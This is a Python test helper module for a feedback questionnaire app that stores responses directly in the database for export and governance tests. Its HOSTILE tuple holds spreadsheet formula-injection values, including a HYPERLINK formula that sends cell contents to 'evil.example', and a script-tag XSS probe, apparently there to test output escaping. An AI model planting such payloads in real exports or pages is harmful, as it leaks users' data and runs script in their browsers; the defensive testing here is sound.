"""Responses stored straight into the database for the response browser, download and governance tests.

Each is stored as a submission stores it: its answers, and the risk flags the check finds in them.
"""

from __future__ import annotations

import datetime as dt
from typing import Any

from sqlalchemy import select

from feedback_app.extensions import db
from feedback_app.models import Answer, CollectionLink, Questionnaire, Response, today
from feedback_app.questionnaires.store import current_version, version_definition
from feedback_app.responses.submission import new_reference, new_token
from feedback_app.safeguarding.flags import flags_in, insert_flags

# Cell contents a spreadsheet would run as formulas, and markup a browser would run as script.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1",
    "-1+2",
    "@SUM(A1:A9)",
    "\tcmd tab",
    "\rcmd carriage return",
    "<script>alert(1)</script>",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def add_response(
    app: Any,
    slug: str,
    answers: dict[str, str | list[str]],
    days_ago: int = 0,
    link_code: str | None = None,
    on: dt.date | None = None,
) -> str:
    """Store one response with the given answers; return its reference."""
    with app.app_context():
        questionnaire = db.session.scalar(select(Questionnaire).filter_by(slug=slug))
        version = current_version(questionnaire)
        link = db.session.scalar(select(CollectionLink).filter_by(code=link_code)) if link_code else None
        reference = new_reference()
        response = Response(
            questionnaire_id=questionnaire.id,
            version_id=version.id,
            link_id=link.id if link else None,
            submission_token=new_token(),
            reference=reference,
            submitted_on=(on or today()) - dt.timedelta(days=days_ago),
            tags=dict(link.tags) if link else {},
        )
        for key, value in answers.items():
            for item in value if isinstance(value, list) else [value]:
                response.answers.append(Answer(question_key=key, value=item))
        db.session.add(response)
        db.session.flush()
        insert_flags(db.session.connection(), response.id, flags_in(version_definition(version), answers))
        db.session.commit()
        return reference


def reference_count(app: Any, reference: str) -> int:
    """How many responses (0 or 1) have this reference."""
    with app.app_context():
        return len(db.session.scalars(select(Response.id).filter_by(reference=reference)).all())
